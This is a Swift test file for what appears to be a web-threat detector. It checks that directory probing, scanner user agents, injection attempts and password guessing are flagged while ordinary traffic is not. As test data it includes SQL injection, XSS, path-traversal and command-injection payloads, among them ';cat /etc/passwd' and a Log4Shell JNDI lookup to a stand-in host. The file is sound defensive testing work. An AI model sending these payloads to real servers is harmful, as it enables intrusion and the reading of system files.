import Testing

@testable import Detection

/// What is told of web servers: probing, and guessing of passwords.
@Suite("Web threats") struct WebThreatTests {
  @Test("a search for hidden pages asks for many that are missing") func hiddenPages() throws {
    var script = TrafficScript()
    for index in 0..<60 {
      script.request("GET", "/word\(index)", status: index % 15 == 0 ? 200 : 404)
      script.wait(0.05)
    }
    let found = script.findings()
    #expect(found.map(\.kind) == [.portScan])
    let finding = try #require(found.first)
    #expect(finding.technique == "T1595.002")
    #expect(finding.evidence.first { $0.name == "refused_requests" }?.value == 56)
    #expect(
      finding.targets == [.service(TrafficScript.address("10.0.0.1"), transport: 6, port: 80)])
  }

  @Test("a page with broken parts, and a poll of one missing page, are no search") func broken() {
    var script = TrafficScript()
    for index in 0..<200 {
      script.request("GET", "/part\(index)", status: index % 12 == 0 ? 404 : 200)
      script.request("GET", "/update.json", status: 404)
      script.wait(1)
    }
    #expect(script.findings().isEmpty)
  }

  @Test(
    "a scanner that says its name is known by few requests",
    arguments: [
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", "sqlmap/1.7.2#stable (https://sqlmap.org)",
      "gobuster/3.1.0",
    ])
  func scanner(agent: String) {
    var script = TrafficScript()
    for index in 0..<4 { script.request("GET", "/\(index)", status: 200, agent: agent) }
    #expect(script.watch.ledger.all.isEmpty)
    script.request("OPTIONS", "/", status: 200, agent: agent)
    #expect(script.findings().map(\.kind) == [.portScan])
  }

  @Test(
    "requests that carry an attack, however it is written",
    arguments: [
      "/item?id=1%27+and+1%3D1+union+select+user%2C+password+from+users%23",
      "/item?id=1/**/UNION/**/ALL/**/SELECT/**/NULL", "/item?id=1%2527%20or%20%25271%2527=%25271",
      "/item?name=%3Cscript%3Ealert(1)%3C/script%3E", "/cgi?f=../../../../etc/passwd",
      "/cgi?f=%2e%2e%2f%2e%2e%2fboot.ini", "/ping?host=1.1.1.1;cat%20/etc/passwd",
      "/?x=$%7Bjndi:ldap://192.0.2.1/a%7D",
    ])
  func attack(target: String) throws {
    var script = TrafficScript()
    for index in 0..<2 { script.request("GET", "\(target)&n=\(index)", status: 200) }
    script.request("GET", "\(target)&n=1", status: 200)
    #expect(script.watch.ledger.all.isEmpty)
    script.request("GET", "\(target)&n=2", status: 200)
    let finding = try #require(script.findings().first)
    #expect(finding.kind == .portScan && finding.severity == .high)
    #expect(finding.technique == "T1190")
  }

  @Test("ordinary searches and addresses carry no attack") func ordinary() {
    var script = TrafficScript()
    for index in 0..<40 {
      script.request("GET", "/search?q=union+jack+or+select+tea&page=\(index)", status: 200)
      script.request("GET", "/a/../b%20c.html?t=O%27Brien%20and%20Sons&n=\(index)", status: 200)
      script.request("GET", "/sql/select.php?order=by+name&from=table&n=\(index)", status: 200)
    }
    #expect(script.findings().isEmpty)
  }

  @Test("credentials that are refused again and again are guesses") func credentials() {
    var script = TrafficScript()
    for _ in 0..<10 {
      script.request("GET", "/admin", status: 401, hasAuthorization: true)
      script.wait(0.5)
    }
    #expect(script.findings().map(\.kind) == [.bruteForce])
  }

  /// NTLM is refused once before it is accepted, and a page without credentials is no guess.
  @Test("asking for credentials is no guess") func challenges() {
    var script = TrafficScript()
    for index in 0..<60 {
      script.request("GET", "/page\(index % 3)", status: 401)
      script.request("GET", "/page\(index % 3)", status: 401, hasAuthorization: true)
      script.request("GET", "/page\(index % 3)", status: 200, hasAuthorization: true)
      script.wait(1)
    }
    #expect(script.findings().isEmpty)
  }

  @Test("a form with one password after the other is guessing") func forms() throws {
    var script = TrafficScript()
    for _ in 0..<40 {
      script.request("POST", "/enter.php", status: 200, hasPassword: true)
      script.wait(0.3)
    }
    let found = script.findings()
    #expect(found.map(\.kind) == [.bruteForce])
    #expect(try #require(found.first).evidence.first { $0.name == "forms" }?.value == 40)
  }

  @Test("a program that posts, and people who log in, do not guess") func posts() {
    var script = TrafficScript()
    for index in 0..<300 {
      script.request("POST", "/api/v1/events", status: 204)
      if index % 30 == 0 { script.request("POST", "/login", status: 302, hasPassword: true) }
      script.wait(1)
    }
    #expect(script.findings().isEmpty)
  }
}
